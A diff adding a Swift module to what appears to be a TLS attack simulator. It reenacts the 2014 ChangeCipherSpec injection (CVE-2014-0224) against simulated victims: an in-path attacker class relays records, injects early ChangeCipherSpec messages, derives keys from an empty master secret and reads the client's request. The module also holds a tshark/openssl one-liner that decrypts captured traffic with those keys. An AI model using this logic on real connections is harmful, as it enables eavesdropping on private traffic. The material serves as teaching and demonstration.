@@ -1,0 +1,135 @@
+import Simulator
+import TCPSim
+import TLSSim
+import Trace
+
+/// A ChangeCipherSpec that comes too early, and keys made from an empty master secret (Kikuchi 2014).
+package enum CCSInjection: Exhibit {
+    package static let card = Card(
+        "ccs-injection", .implementation, .inPath, .read, unit: "handshakes", year: 2014,
+        cites: [.rfc(5246, "7.1"), .rfc(5246, "6.3")], cves: ["CVE-2014-0224"], words: CCSInjectionCard.self)
+
+    private static let client = Socket(.client, 50_000)
+    private static let server = Socket(.server, 443)
+
+    package static func perform(_ show: Performance) throws -> Outcome {
+        let stage = show.stage()
+        let victims = try Victims(show, .dheRSAAES128GCM)
+        let (near, far) = show.pair(on: stage)
+        let request = show.request
+        stage.listen(far, port: 443) { _ in
+            victims.server(
+                configure: { $0.refusesEarlyChangeCipherSpec = show.isDefended },
+                answers: { _ in .ends([Money.answer]) })
+        }
+        var attacker = show.attacker(on: stage)
+        let fraud = Fraud()
+        attacker.guardPath { fraud.pass($0) }
+        stage.connect(
+            near, from: client.port, to: server,
+            victims.client(says: [request], configure: { $0.refusesEarlyChangeCipherSpec = show.isDefended }))
+
+        var outcome = Outcome()
+        outcome.theory = .exactly(1)
+        outcome.tries = 1
+        outcome.evidence = [("client", .socket(client)), ("server", .socket(server))]
+        // When the server's flight has passed, the server waits for ClientKeyExchange.
+        attacker.wait { fraud.schedule != nil }
+        guard let schedule = fraud.schedule, let early = fraud.splice.insertion(
+            fraud.toServer.write(.changeCipherSpec, [1]), from: client, to: server)
+        else { return outcome }
+        fraud.toServer.writing.startWriting(with: schedule.clientProtection)
+        attacker.send(early, from: client.address, to: server.address, CCSInjectionNote.inserted)
+        outcome.say(
+            CCSInjectionNote.early, frames: [attacker.frame() - 1, attacker.frame()], cite: .rfc(5246, "7.1"),
+            [.init("master secret", []), .init("key block of nothing", schedule.keyBlock)])
+        _ = attacker.wait(.seconds(5))
+        outcome.reached = !fraud.request.isEmpty && fraud.isAnswered
+        guard outcome.reached else {
+            outcome.say(CCSInjectionNote.refused(fraud.alert?.description ?? ""), cite: .rfc(5246, "7.1"))
+            return outcome
+        }
+        outcome.say(CCSInjectionNote.finished, cite: .rfc(5246, "7.4.9"))
+        outcome.say(CCSInjectionNote.reads(octets: fraud.request.count))
+        outcome.loot = [("request", fraud.request)]
+        outcome.truth = [("request", request)]
+        outcome.reproduce = [Self.script]
+        return outcome
+    }
+
+    /// The PRF of nothing, and AES in counter mode, which is what GCM encrypts with.
+    private static let script =
+        "python3 -c 'import hmac, subprocess as s; "
+        + "t = lambda f, e: bytes.fromhex(s.run([\"tshark\", \"-r\", \"FILE\", \"-Y\", f, \"-T\", \"fields\", \"-e\", e], "
+        + "capture_output=True, text=True).stdout.split()[0].replace(\":\", \"\")); "
+        + "c = t(\"tls.handshake.type==1\", \"tls.handshake.random\"); r = t(\"tls.handshake.type==2\", \"tls.handshake.random\"); "
+        + "d = t(\"ip.src==10.0.0.1 && tls.app_data\", \"tls.app_data\"); h = lambda m: hmac.digest(b\"\", m, \"sha256\"); "
+        + "n = b\"key expansion\" + r + c; a = h(n); k = h(a + n) + h(h(a) + n); "
+        + "print(s.run([\"openssl\", \"enc\", \"-d\", \"-aes-128-ctr\", \"-K\", k[:16].hex(), \"-iv\", (k[32:36] + d[:8]).hex() + \"00000002\"], "
+        + "input=d[8:-16], capture_output=True).stdout.decode())'"
+
+    /// What she makes of the segments that pass.
+    private final class Fraud {
+        let splice = Splice()
+        var toServer = RecordRelay()
+        private var toClient = RecordRelay()
+        private var clientRandom: [UInt8] = []
+        /// The keys of an empty master secret.
+        private(set) var schedule: KeySchedule?
+        private(set) var request: [UInt8] = []
+        private(set) var isAnswered = false
+        private(set) var alert: AlertDescription?
+
+        func pass(_ sight: Sight) -> Passage {
+            splice.pass(sight) { source, octets in source == client ? fromClient(octets) : fromServer(octets) }
+        }
+
+        private func fromClient(_ octets: [UInt8]) -> [UInt8] {
+            toServer.pass(octets) { piece, relay in
+                switch piece {
+                case .message(let message) where message.type == .clientHello:
+                    clientRandom = (try? message.parsed(ClientHello.read))?.random ?? []
+                case .content(.changeCipherSpec, _):
+                    if let schedule { relay.reading.startReading(with: schedule.clientProtection) }
+                    return []
+                case .content(.applicationData, let data): request += data
+                case .content(.alert, let octets): return give(up: octets, &relay)
+                default: break
+                }
+                return relay.write(piece)
+            }
+        }
+
+        private func fromServer(_ octets: [UInt8]) -> [UInt8] {
+            toClient.pass(octets) { piece, relay in
+                switch piece {
+                case .message(let message) where message.type == .serverHello:
+                    guard let hello = try? message.parsed(ServerHello.read),
+                        let suite = CipherSuite.withCodePoint(hello.cipherSuite)
+                    else { break }
+                    let schedule = KeySchedule(
+                        resuming: [], clientRandom: clientRandom, serverRandom: hello.random, suite: suite)
+                    let passed = relay.write(message) + relay.write(.changeCipherSpec, [1])
+                    relay.writing.startWriting(with: schedule.serverProtection)
+                    self.schedule = schedule
+                    return passed
+                case .content(.changeCipherSpec, _):
+                    if let schedule { relay.reading.startReading(with: schedule.serverProtection) }
+                    return []
+                case .content(.applicationData, _): isAnswered = true
+                case .content(.alert, let octets): return give(up: octets, &relay)
+                default: break
+                }
+                return relay.write(piece)
+            }
+        }
+
+        /// A fatal alert: it goes on as it is.
+        private func give(up octets: [UInt8], _ relay: inout RecordRelay) -> [UInt8] {
+            guard let alert = try? Alert.read(octets), alert.level == .fatal else { return relay.write(.alert, octets) }
+            self.alert = self.alert ?? alert.name
+            relay.writing = RecordLayer()
+            return relay.write(.alert, octets)
+        }
+    }
+}
